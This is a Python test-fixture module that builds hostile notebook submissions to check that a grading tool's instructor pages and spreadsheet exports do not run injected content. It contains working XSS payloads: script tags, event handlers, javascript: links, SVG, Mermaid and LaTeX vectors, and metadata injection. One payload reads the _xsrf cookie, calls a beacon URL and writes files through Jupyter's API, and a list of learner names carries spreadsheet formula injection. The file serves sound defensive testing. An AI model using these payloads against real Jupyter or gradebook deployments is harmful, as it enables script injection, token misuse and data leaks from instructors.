"""Hostile submissions aimed at the instructor's browser and spreadsheet (issue 11.4, 11.9).

In the style of :mod:`.hostile`: each case starts from the untouched release notebook and
adds one attack, here on what renders the graded work rather than on the grader:

* reflections (Markdown answer cells) with script tags, event handlers, ``javascript:``
  links, SVG with script, a Mermaid block and a maths link;
* learner code that displays HTML, JavaScript, SVG, Markdown with HTML inside, LaTeX, an
  "isolated" HTML frame and images whose size metadata carries an event handler;
* a notebook file with hostile metadata (widget state, cell tags), an HTML raw cell and an
  attachment that is not an image;
* learner ids and names with markup and spreadsheet formulas (:func:`hostile_ids`,
  :data:`NAMES`), for the gradebook, CSV files, feedback, certificates and the summary.

Every payload, if it ever ran, leaves three traces: ``window.__ncXss`` in the page, a
request to ``<beacon>/<case>`` and a file ``xss-<case>.txt`` written through Jupyter's
contents API (the first two only, for ids, which must stay short). The browser test runs
a listener as the beacon and asserts that none of the three happened.
:data:`EXPECTED` is each case's status and score through the real pipeline.
"""

from __future__ import annotations

import base64
import copy
import json
from collections.abc import Callable

import nbformat
from nbformat import NotebookNode

from .hostile import _dump, _with_code_in_answers

#: Where payloads report by default (the discard port: nothing listens there).
BEACON = "http://127.0.0.1:9"
#: A real 1x1 PNG, so an event handler smuggled into its metadata would fire on load.
PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAIAAACQd1PeAAAADElEQVR4nGP4z8AAAAMBAQDJ/pLvAAAAAElFTkSuQmCC"

Case = Callable[[NotebookNode, NotebookNode], bytes]


def payload(case: str, beacon: str = BEACON) -> str:
    """JavaScript that records ``case`` three ways if it ever runs."""
    template = (
        "(function(){var t=CASE;window.__ncXss=(window.__ncXss||[]).concat([t]);"
        "try{fetch(BEACON+'/'+t,{mode:'no-cors'}).catch(function(){})}catch(e){}"
        "try{var x=(document.cookie.match(/_xsrf=([^;]+)/)||[])[1]||'';"
        "fetch('/api/contents/xss-'+t+'.txt',{method:'PUT',headers:{'Content-Type':"
        "'application/json','X-XSRFToken':decodeURIComponent(x)},body:JSON.stringify("
        "{type:'file',format:'text',content:t})}).catch(function(){})}catch(e){}})()")
    return template.replace("CASE", json.dumps(case)).replace("BEACON", json.dumps(beacon))


def js(case: str, beacon: str = BEACON) -> str:
    """The payload as an expression safe inside any quoted attribute or URL."""
    encoded = base64.b64encode(payload(case, beacon).encode()).decode()
    return f"eval(atob('{encoded}'))"


def reflection_cells(nb: NotebookNode) -> list[NotebookNode]:
    """Markdown answer cells graded by hand (the reflections)."""
    return [c for c in nb.cells if c.cell_type == "markdown"
            and c.get("metadata", {}).get("nbgrader", {}).get("solution")]


def _with_reflection(release: NotebookNode, text: str) -> bytes:
    nb = copy.deepcopy(release)
    cells = reflection_cells(nb)
    for cell in cells:
        cell.source = text
    if not cells:
        nb.cells.append(nbformat.v4.new_markdown_cell(text))
    return _dump(nb)


def _reflection_script_tags(beacon: str) -> str:
    c = "reflection-script-tags"
    return f"""I will ask every client which parts of an offer are open.

<script>{payload(c, beacon)}</script>
<svg><script>{payload(c, beacon)}</script></svg>
<iframe srcdoc="<script>{js(c, beacon)}</script>"></iframe>
<iframe src="javascript:{js(c, beacon)}"></iframe>
<object data="javascript:{js(c, beacon)}"></object><embed src="javascript:{js(c, beacon)}">
<meta http-equiv="refresh" content="0;url=javascript:{js(c, beacon)}">
<base href="{beacon}/{c}/">
<style>@import url("{beacon}/{c}.css");</style>
"""


def _reflection_event_handlers(beacon: str) -> str:
    c = "reflection-event-handlers"
    return f"""My client took the first offer; I will show her the numbers first.

<img src="x" onerror="{js(c, beacon)}">
<svg onload="{js(c, beacon)}"><circle r="4"/></svg>
<details open ontoggle="{js(c, beacon)}"><summary>more</summary>text</details>
<input autofocus onfocus="{js(c, beacon)}">
<div style="background-image: url(javascript:{js(c, beacon)})">styled</div>
<math><mtext><table><mglyph><style><img src=x onerror="{js(c, beacon)}"></style>
</mglyph></table></mtext></math>
<a id="practice-reflection" name="notebook-container">clobbers the page's own ids</a>
<img src="{beacon}/{c}.png" alt="a remote image reports who looked">
"""


def _reflection_script_links(beacon: str) -> str:
    c = "reflection-script-links"
    return f"""Links a grader might click: [my notes](javascript:{js(c, beacon)}),
<a href="javascript:{js(c, beacon)}">my chart</a>,
<a href="&#106;ava&#x09;script:{js(c, beacon)}">obfuscated</a>,
<a href="data:text/html;base64,{base64.b64encode(b'<script>alert(1)</script>').decode()}">data</a>,
[side file](notes.html), ![pixel]({beacon}/{c}.gif)

```mermaid
graph TD; A-->B; <img src=x onerror="{js(c, beacon)}">
```

$\\href{{javascript:{js(c, beacon)}}}{{x}}$
"""


def _display_html_js(beacon: str) -> str:
    c = "display-html-js"
    img = f'<img src=x onerror="{js(c, beacon)}"><b>bold</b>'
    script = f"<script>{payload(c, beacon)}</script>"
    return f"""
from IPython.display import HTML, Javascript, display
display(HTML({img!r}))
display(Javascript({payload(c, beacon)!r}))
display({{"application/javascript": {payload(c, beacon)!r},
          "text/plain": "nothing to see"}}, raw=True)
display({{"text/html": {script!r}}}, raw=True)
display({{"text/html": {script!r}}}, raw=True, metadata={{"text/html": {{"isolated": True}}}})
"""


def _display_svg_markdown(beacon: str) -> str:
    c = "display-svg-markdown"
    svg = (f'<svg xmlns="http://www.w3.org/2000/svg" onload="{js(c, beacon)}">'
           f"<script>{payload(c, beacon)}</script></svg>")
    markdown = (f'Looks harmless <img src=x onerror="{js(c, beacon)}"> '
                f"[link](javascript:{js(c, beacon)})")
    latex = f"$\\href{{javascript:{js(c, beacon)}}}{{x}}$"
    width = f'1 onload="{js(c, beacon)}"'
    broken = f'x" onerror="{js(c, beacon)}'
    return f"""
from IPython.display import SVG, Latex, Markdown, display
display(SVG({svg!r}))
display(Markdown({markdown!r}))
display(Latex({latex!r}))
display({{"image/png": {PNG!r}, "text/plain": "plot"}}, raw=True,
        metadata={{"image/png": {{"width": {width!r}, "height": 1}}}})
display({{"image/png": {broken!r}, "text/plain": "broken"}}, raw=True)
display({{"image/svg+xml": {svg!r},
          "application/vnd.jupyter.widget-view+json": {{"model_id": "x"}}}}, raw=True)
"""


def _notebook_metadata(release: NotebookNode, beacon: str) -> bytes:
    c = "notebook-metadata"
    nb = copy.deepcopy(release)
    nb.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": {
        "state": {}, "version_major": 2, "version_minor": 0,
        "x": f"</script><script>{payload(c, beacon)}</script>"}}
    nb.metadata["language_info"] = {"name": "python",
                                    "pygments_lexer": f'"><script>{payload(c, beacon)}'}
    raw = nbformat.v4.new_raw_cell(f"<script>{payload(c, beacon)}</script>")
    raw.metadata["raw_mimetype"] = "text/html"
    raw.metadata["format"] = "text/html"
    note = nbformat.v4.new_markdown_cell("![chart](attachment:chart.png) and my notes")
    page = base64.b64encode(f"<script>{payload(c, beacon)}</script>".encode()).decode()
    note["attachments"] = {"chart.png": {"text/html": page, "image/png": "not base64!"}}
    note.metadata["tags"] = [f'"><img src=x onerror={js(c, beacon)}>', "ok-tag"]
    note.metadata["alt"] = f'"><img src=x onerror="{js(c, beacon)}">'
    nb.cells += [raw, note]
    for cell in nb.cells:
        cell.metadata.setdefault("tags", [])
    return _dump(nb)


def cases(beacon: str = BEACON) -> dict[str, Case]:
    """The notebook cases, each reporting to ``beacon`` if it ever ran."""
    def reflection(text: str) -> Case:
        return lambda source, release: _with_reflection(release, text)

    def code(text: str) -> Case:
        return lambda source, release: _with_code_in_answers(release, text)

    return {
        "reflection-script-tags": reflection(_reflection_script_tags(beacon)),
        "reflection-event-handlers": reflection(_reflection_event_handlers(beacon)),
        "reflection-script-links": reflection(_reflection_script_links(beacon)),
        "display-html-js": code(_display_html_js(beacon)),
        "display-svg-markdown": code(_display_svg_markdown(beacon)),
        "notebook-metadata": lambda source, release: _notebook_metadata(release, beacon),
    }


WEB_CASES: dict[str, Case] = cases()

#: (status, autograded score) of each case on an assignment with a reflection, such as
#: lesson-00: a changed reflection waits for the instructor; everything else scores zero.
EXPECTED: dict[str, tuple[str, float]] = {
    "reflection-script-tags": ("needs review", 0.0),
    "reflection-event-handlers": ("needs review", 0.0),
    "reflection-script-links": ("needs review", 0.0),
    "display-html-js": ("graded", 0.0),
    "display-svg-markdown": ("graded", 0.0),
    "notebook-metadata": ("graded", 0.0),
}


def side_files(beacon: str = BEACON) -> dict[str, str]:
    """Files a learner can add beside the notebook; nbgrader copies them to ``autograded/``,
    and formgrader serves that folder (the reflection above links to ``notes.html``)."""
    c = "side-file"
    return {"notes.html": f"<p>notes</p><script>{payload(c, beacon)}</script>"
                          f'<img src=x onerror="{js(c, beacon)}">',
            "notes.svg": f'<svg xmlns="http://www.w3.org/2000/svg" onload="{js(c, beacon)}">'
                         f"<script>{payload(c, beacon)}</script></svg>"}


def hostile_ids(beacon: str = BEACON) -> list[str]:
    """Learner ids with markup, for HTML text, attributes and JavaScript strings.

    Legal folder names (no ``/``), no glob characters; the grading runner refuses them
    (ids must match one pattern), so they reach a page only through stock nbgrader paths.
    """
    url = beacon.replace("/", "\\x2f")
    return [f"<img src=x onerror=\"window.__ncXss='id-html';fetch('{url}\\x2fid-html')\">",
            f"x\";window.__ncXss='id-js';fetch('{url}\\x2fid-js');\""]


#: Names (first, last) as a learner might set them in a profile the gradebook imports:
#: spreadsheet formulas with every dangerous first character, and markup.
NAMES: list[tuple[str, str]] = [
    ('=HYPERLINK("http://127.0.0.1:9/leak?"&A1,"Click for your grade")', "Formula"),
    ("+SUM(1+1)", "-2+3"),
    ("@SUM(A1:A9)", "\tTabbed"),
    ("\rCarriage", "＝1+1"),
    ("<img src=x onerror=alert(1)>", "<script>alert(1)</script>"),
]
